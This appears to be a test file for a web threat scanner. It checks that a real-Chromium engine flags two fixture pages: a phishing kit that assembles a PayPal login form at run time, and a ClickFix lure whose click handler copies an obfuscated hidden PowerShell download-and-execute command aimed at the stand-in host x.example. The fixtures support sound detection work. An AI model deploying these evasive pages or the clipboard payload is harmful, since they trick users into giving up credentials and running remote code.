import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createLogger } from '@lookout/telemetry';
import { analyzeFetch } from '../../src/analysis/analyze.js';
import type { ScanResult } from '../../src/analysis/result.js';
import type { BrowserPool } from '../../src/capture/browser-pool.js';
import { scanWithBrowser, type BrowserEngineDeps } from '../../src/capture/browser-engine.js';
import { ThreatIntelIndex } from '../../src/threat-intel/threat-index.js';
import { defaultRules } from '../analysis/fixtures.js';
import { startAnalysingBrowser } from './analysing-browser.js';

/**
 * A kit that builds itself from string pieces at run time: nothing in the document or its literals
 * spells the brand or holds a form, so only the rendered DOM shows the phishing page. The http engine
 * must call it clean; the browser engine must catch it. Real Chromium, loopback HTTP server.
 */
const JS_ONLY_KIT = `<!doctype html><html><head><title>Loading</title></head><body><div id="app"></div><script>
  var p = ['Pay', 'Pal'].join('');
  document.title = 'Log in to your ' + p + ' account';
  var h = document.createElement('h1'); h.textContent = p; document.getElementById('app').appendChild(h);
  var f = document.createElement('form'); f.method = 'post'; f.action = 'n.php';
  var u = document.createElement('input'); u.name = 'login_email';
  var w = document.createElement('input'); w.type = 'pass' + 'word'; w.name = 'login_pw';
  f.appendChild(u); f.appendChild(w); document.getElementById('app').appendChild(f);
</script></body></html>`;

/**
 * A ClickFix page whose command exists only at click time (reversed pieces, nothing a static decoder
 * reads as a shell command): the browser engine's click probe and clipboard recorder must catch it.
 */
const CLICKFIX_AT_CLICK = `<!doctype html><html><head><title>Just a moment</title></head><body>
  <p>Verify you are human</p><div id="check" role="button">I'm not a robot</div>
  <ol><li>Press Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>
<script>
  document.getElementById('check').addEventListener('click', function () {
    var c = ['neddih w-', ' llehsrewop'].map(function (s) { return s.split('').reverse().join(''); }).reverse().join(' ');
    navigator.clipboard.writeText(c + ' -c iwr https://x.example/a | iex');
  });
</script></body></html>`;

describe('detection through the browser engine (real Chromium)', function () {
  this.timeout(90_000);
  let server: Server;
  let base: string;
  let pool: BrowserPool;
  let deps: BrowserEngineDeps;
  const logger = createLogger('rendered-detection-test', 'silent');

  before(async () => {
    server = createServer((req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(req.url === '/clickfix' ? CLICKFIX_AT_CLICK : JS_ONLY_KIT);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    ({ pool, deps } = await startAnalysingBrowser(logger));
  });

  after(async () => {
    await pool?.close();
    server?.closeAllConnections();
    await new Promise<void>((resolve) => server?.close(() => resolve()));
  });

  it('a kit assembled by script is phishing once rendered, and clean to the document-only analysis', async () => {
    const verdict = await scanWithBrowser(`${base}/`, {}, deps, undefined, 30_000);
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    const result = verdict.result as ScanResult;
    assert.equal(result.verdict, 'malicious', JSON.stringify(result.signals));
    assert.deepEqual(result.categories[0], 'phishing');
    assert.ok(result.decidedBy?.includes('combo:brand-credentials'), String(result.decidedBy));

    // The same document without rendering: no brand, no form, nothing decoded.
    const rules = await defaultRules();
    const plain = analyzeFetch(
      {
        requestedUrl: `${base}/`,
        finalUrl: `${base}/`,
        redirects: [],
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8' },
        body: Buffer.from(JS_ONLY_KIT),
        bodyTruncated: false,
        remoteAddress: '127.0.0.1',
        resolvedAddresses: ['127.0.0.1'],
        tls: null,
        timings: { dns: null, connect: 1, tls: null, ttfb: 1, total: 2 },
      },
      { threatIntel: ThreatIntelIndex.empty(), rules },
    );
    assert.equal(plain.verdict, 'clean', JSON.stringify(plain.signals));
  });

  it('a ClickFix page that copies its command only when clicked: the click probe records the write, the verdict is clickfix', async () => {
    const verdict = await scanWithBrowser(`${base}/clickfix`, {}, deps, undefined, 30_000);
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    const result = verdict.result as ScanResult;
    const copied = result.signals.find((signal) => signal.id === 'clipboard-shell-command');
    assert.match(copied?.evidence ?? '', /^clipboard: powershell\s+-w hidden -c iwr/, JSON.stringify(result.signals));
    assert.equal(result.verdict, 'malicious');
    assert.equal(result.categories[0], 'clickfix');
    assert.ok(result.decidedBy?.includes('combo:clickfix'), String(result.decidedBy));
  });
});
